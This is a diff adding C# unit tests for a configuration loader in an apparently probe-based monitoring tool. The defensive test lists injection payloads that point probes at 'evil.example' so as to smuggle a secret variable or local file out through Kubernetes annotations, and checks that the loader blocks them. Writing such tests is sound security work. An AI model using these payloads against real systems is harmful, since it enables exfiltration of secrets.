@@ -96,6 +96,18 @@ public sealed class EffectiveConfigTests : IDisposable
     }
 
     [Fact]
+    public async Task What_was_discovered_before_a_reload_is_known_to_be_older_than_it()
+    {
+        Write("a.json", Group("core", "a.example"));
+        await LoadedAsync(Shops);
+        Write("a.json", Group("core", "a.example", "b.example"));
+        var discovered = await NextAsync();
+        Assert.True(effective!.IsLast(discovered));
+        var reloaded = Assert.IsType<ConfigReading.Loaded>(await effective.ReadAsync(TestContext.Current.CancellationToken));
+        Assert.Equal((false, true), (effective.IsLast(discovered), effective.IsLast(reloaded)));
+    }
+
+    [Fact]
     public async Task Targets_of_files_become_components_by_the_template_with_their_labels()
     {
         Write("b.json", Group("payments", "a.example:8443", "b.example"));
@@ -159,6 +171,36 @@ public sealed class EffectiveConfigTests : IDisposable
         Assert.Equal("https://a.example/${X}/health", Assert.IsType<Probing.Http.HttpOptions>(loaded.Config.Topology.Components[0].Probes[0].Options).Url.OriginalString);
         Assert.Equal("${X} \"] else up", loaded.Config.Topology.Components[0].Labels["team"]);
         Assert.DoesNotContain("leaked", loaded.Config.Json, StringComparison.Ordinal);
+    }
+
+    /// <summary>X is a variable of ours that holds a secret; whoever writes targets must not get it sent to himself.</summary>
+    [Theory]
+    [InlineData("http: 'https://evil.example/${X}'")]
+    [InlineData("http: 'https://evil.example/$${X}'")]
+    [InlineData("http: 'https://evil.example/$$${X}'")]
+    [InlineData("http: 'https://evil.example/${{annotation.rest}}'")]
+    [InlineData("http: 'https://evil.example/${{annotation.empty}}{X}'")]
+    [InlineData("http: 'https://evil.example/{{annotation.dollar}}{{annotation.rest}}'")]
+    [InlineData("http: 'https://evil.example/$${{annotation.rest}}'")]
+    [InlineData("{http: 'https://evil.example/', headers: {a: '${X}'}}")]
+    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', body: '${X}'}]}")]
+    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', body_file: secret.txt}]}")]
+    [InlineData("{journey: a, steps: [{name: one, url: 'https://evil.example/', json_file: secret.txt}]}")]
+    public async Task Who_may_annotate_an_object_gets_neither_variables_nor_files_of_this_machine(string probe)
+    {
+        Write("secret.txt", "leaked");
+        var annotations = new Dictionary<string, string> { ["nines.dev/probe"] = probe.Replace("secret.txt", Path.Combine(folder, "secret.txt"), StringComparison.Ordinal), ["rest"] = "{X}", ["dollar"] = "$", ["empty"] = "" };
+        var item = new { kind = "Service", metadata = new { name = "thief", annotations }, spec = new { } };
+        Write("objects.json", System.Text.Json.JsonSerializer.Serialize(new { kind = "List", items = new[] { item } }));
+        var loaded = await LoadedAsync("discover: [{name: cluster, kubernetes: objects.json}]\n");
+        var texts = loaded.Config.Topology.Components.SelectMany(component => component.Probes).Select(each => each.Options switch
+        {
+            Probing.Http.HttpOptions http => $"{http.Url.OriginalString} {string.Join(' ', http.Headers.Values)}",
+            Probing.Journeys.JourneyOptions journey => $"{journey.Steps[0].Body} {journey.Steps[0].Json}",
+            var other => other.ToString()!,
+        });
+        Assert.DoesNotContain("leaked", string.Join(' ', texts), StringComparison.Ordinal);
+        Assert.Equal(probe.Contains("_file", StringComparison.Ordinal) ? 1 : 0, loaded.LeftOut.Length);
     }
 
     [Fact]
